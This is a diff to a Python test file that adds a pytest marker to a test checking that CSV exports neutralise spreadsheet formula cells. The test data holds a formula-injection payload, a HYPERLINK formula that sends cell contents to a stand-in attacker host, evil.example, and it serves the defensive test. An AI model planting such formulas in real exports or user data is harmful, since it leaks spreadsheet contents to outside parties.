@@ -250,6 +250,7 @@ def test_changing_password_asks_for_the_current_one(world, db_app):
 
 # ---- 7. spreadsheet formulas in exports ------------------------------------------------
 
+@pytest.mark.clean_slate  # the CSV export reads on a session of its own
 def test_export_neutralises_formula_cells(world, login):
     person = world.people["A"]
     person.name_zh = '=HYPERLINK("http://evil.example/?"&A1,"x")'
